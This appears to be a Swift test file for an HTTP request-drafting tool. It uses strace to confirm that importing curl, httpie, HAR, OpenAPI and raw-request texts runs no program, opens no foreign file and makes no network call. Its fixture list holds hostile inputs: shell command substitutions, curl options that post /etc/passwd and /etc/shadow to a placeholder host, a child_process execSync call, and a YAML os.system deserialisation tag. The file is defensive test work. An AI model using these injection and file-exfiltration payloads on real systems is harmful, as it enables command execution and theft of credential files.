import Foundation
import TestSupport
import Testing

@Suite("Imports run nothing, and nothing is sent")
struct NothingIsRunTests {
  /// Texts in each format that ask a shell, or a client, to run a program or to read a file.
  private static let hostile: [(name: String, text: String)] = [
    (
      "a.sh",
      "curl https://h/$(touch pwned) -d @/etc/passwd -H \"A: `touch pwned`\" -F 'f=</etc/shadow' -K /etc/hosts --data-binary @canary -o pwned -b /etc/group"
    ),
    ("b.sh", "curl https://h/ -H @canary --json @canary --config canary --netrc-file canary; touch pwned"),
    ("c.sh", "curl \"https://h/${HOME}$(cat canary)\" -d \"$(<canary)\" && touch pwned | sh"),
    ("d.sh", "http POST https://h/ a=@canary b:=@canary c@canary 'X:@canary' @canary < canary"),
    ("e.sh", "http --form POST https://h/ a=!touch b='$(touch pwned)' c=`touch pwned`"),
    (
      "f.http",
      "# @name x\n@v = {{$processEnv HOME}}\n< {% require('fs') %}\nPOST https://h/{{$dotenv X}}\n\n< ./canary\n<@ ./canary\n> {% client.global.set() %}\n"
    ),
    (
      "g.js",
      "fetch(`https://h/${require('child_process').execSync('touch pwned')}`, {body: eval('1'), headers: {'A': process.env.HOME}})"
    ),
    ("h.txt", "POST /$(touch pwned) HTTP/1.1\r\nHost: h\r\nX: `touch pwned`\r\n\r\n@canary"),
    (
      "i.har",
      "{\"log\":{\"version\":\"1.2\",\"entries\":[{\"request\":{\"method\":\"POST\",\"url\":\"file:///etc/passwd\",\"headers\":[],\"postData\":{\"mimeType\":\"multipart/form-data\",\"params\":[{\"name\":\"f\",\"fileName\":\"canary\"}]}}}]}}"
    ),
    (
      "j.json",
      "{\"openapi\":\"3.0.0\",\"info\":{\"title\":\"t\"},\"paths\":{\"/p\":{\"$ref\":\"canary\",\"get\":{\"parameters\":[{\"$ref\":\"file:///etc/passwd\"},{\"$ref\":\"./canary#/x\"},{\"$ref\":\"http://h/x\"}]}}}}"
    ),
    (
      "k.yaml",
      "openapi: 3.0.0\ninfo: {title: !!python/object/apply:os.system ['touch pwned']}\npaths: {/p: {get: {x: !include canary}}}\n"
    ),
    ("l.txt", "file:///etc/passwd?a=$(touch pwned)"),
    ("m.txt", "a=$(touch pwned)\nb=@canary\n"),
    (
      "n.json",
      "{\"wiredraft\": 1, \"method\": \"POST\", \"url\": \"https://h/\", \"parameters\": [{\"name\": \"a\", \"value\": \"$(touch pwned)\"}]}"
    ),
  ]

  @Test(
    "Of all texts to import none starts a program, opens a file but its own, or makes one",
    .enabled(if: TracedRuns.canTrace, "strace is not there, or may not look at processes"))
  func imports() throws {
    let program = try Program()
    try program.write("CANARY", to: "canary")
    for (name, text) in Self.hostile {
      try program.write(text, to: name)
      for words in [["import", name], ["import", name, "--list"]] {
        let (calls, result) = try TracedRuns.calls(
          program, words,
          trace: "execve,execveat,fork,vfork,clone,clone3,open,openat,creat,unlink,rename,connect,socket")
        check(
          calls.count { $0.contains("execve(") }, 1, "\(name): \(calls.filter { $0.contains("execve") })")
        check(
          !calls.contains { $0.contains("fork(") || $0.contains("socket(") || $0.contains("connect(") },
          "\(name)")
        for call in calls where call.contains("open") && call.contains("\"") {
          let path = call.split(separator: "\"", omittingEmptySubsequences: false)[1]
          check(
            path == name[...] || path == "./\(name)" || path.contains(".so") || Self.isOfSystem(path),
            "\(name): \(call)")
          check(
            !call.contains("O_WRONLY") && !call.contains("O_CREAT") && !call.contains("O_RDWR")
              || path.hasPrefix("/dev/"), "\(call)")
        }
        check(!String(decoding: result.output, as: UTF8.self).contains("CANARY"))
      }
    }
    check(!FileManager.default.fileExists(atPath: program.folder.path + "/pwned"))
  }

  @Test(
    "A file that a pasted request names is looked at only once the request is taken, and never run",
    .enabled(if: TracedRuns.canTrace, "strace is not there, or may not look at processes"))
  func pasted() throws {
    let program = try Program()
    try program.write("CANARY", to: "canary")
    for (_, text) in Self.hostile where !text.contains("wiredraft") {
      let lines = "import\n" + text.replacing("\r\n", with: "\n") + "\n.\nno\n.cancel\nwire\nquit\ndiscard\n"
      let (calls, result) = try TracedRuns.calls(
        program, ["--plain"], trace: "execve,execveat,fork,vfork,open,openat,socket,connect", input: lines)
      check(calls.count { $0.contains("execve(") }, 1)
      check(!calls.contains { $0.contains("canary") || $0.contains("/etc/passwd\"") }, "\(text)")
      check(!result.text.contains("CANARY"))
    }
    check(!FileManager.default.fileExists(atPath: program.folder.path + "/pwned"))
  }

  /// Returns whether the system itself opens a path when it starts a program: libraries, locales, the terminal's
  /// description, entropy, its own maps.
  private static func isOfSystem(_ path: Substring) -> Bool {
    [
      "/etc/ld.so", "/lib", "/usr/lib", "/usr/share/locale", "/usr/share/zoneinfo", "/etc/localtime",
      "/proc/", "/sys/", "/dev/", "/usr/share/terminfo", "/etc/terminfo",
    ]
    .contains { path.hasPrefix($0) }
  }

  @Test(
    "No socket is made, and no name looked up, by any subcommand and a long session",
    .enabled(if: TracedRuns.canTrace, "strace is not there, or may not look at processes"))
  func network() throws {
    let program = try Program()
    for (name, text) in Self.hostile { try program.write(text, to: name) }
    let session = """
      url https://example.com/{id}?a=1
      add q=Swift
      method POST
      body multipart
      add f@canary
      wire
      hex
      code
      code python
      code swift
      problems
      fix 1
      7
      copy curl
      copy message
      compare GET
      import
      curl https://example.org/ -d a=1
      .
      yes
      save x.wiredraft.json
      drafts
      unsaved
      lessons
      lesson 1
      hint
      leave
      example payment
      open x.wiredraft.json
      discard
      quit
      discard

      """
    try program.write("x", to: "canary")
    let runs: [(words: [String], input: String)] =
      [
        (["--plain"], session), (["methods"], ""), (["schema"], ""), (["glossary"], ""), (["lessons"], ""),
        (["variables"], ""),
        (["--help"], ""),
        (["render", "https://example.com/", "a=1"], ""), (["render", "n.json"], ""),
        (["check", "n.json"], ""),
        (["compare", "https://example.com/", "a=1", "--with", "POST"], ""),
        (["open", "n.json", "--plain"], "wire\nquit\n"),
      ] + Self.hostile.map { (["import", $0.name], "") }
    for run in runs {
      let (calls, _) = try TracedRuns.calls(program, run.words, trace: "network", input: run.input)
      // Not even a call by the system itself, such as that of a name service.
      check(calls.isEmpty, "\(run.words): \(calls.prefix(3))")
    }
  }

  @Test(
    "A session on the screen makes no socket and looks up no name",
    .enabled(if: TracedRuns.canTrace, "strace is not there, or may not look at processes"))
  func screen() throws {
    let folder = try TemporaryFolder()
    var environment = Program.environment(home: folder.path)
    environment["TERM"] = "xterm-256color"
    let terminal = try PseudoTerminal(
      ["https://example.com/", "a=1"], folder: folder, environment: environment,
      through: ["strace", "-f", "-o", "trace.txt", "-e", "trace=network"])
    check(terminal.wait { $0.text.contains("Par") })
    check(
      terminal.typeOneByOne([
        "m", "p", "7", "6", "\\", "\\", "9", "c", "\u{07}", "ycc", "!", "\u{07}", "\u{0F}", "\u{07}",
        "\u{1B}OQ",
        "\u{07}", "2o", "b\t2\r", "\u{13}", "\r",
      ]))
    terminal.type([0x11])
    check(terminal.wait { $0.text.contains("Save") || $0.text.contains("nsaved") })
    terminal.type(Array("d".utf8))
    check(terminal.end() != nil)
    let trace = try String(contentsOfFile: folder.path + "/trace.txt", encoding: .utf8)
    check(!trace.contains("socket(") && !trace.contains("connect("), "\(trace.prefix(500))")
  }
}
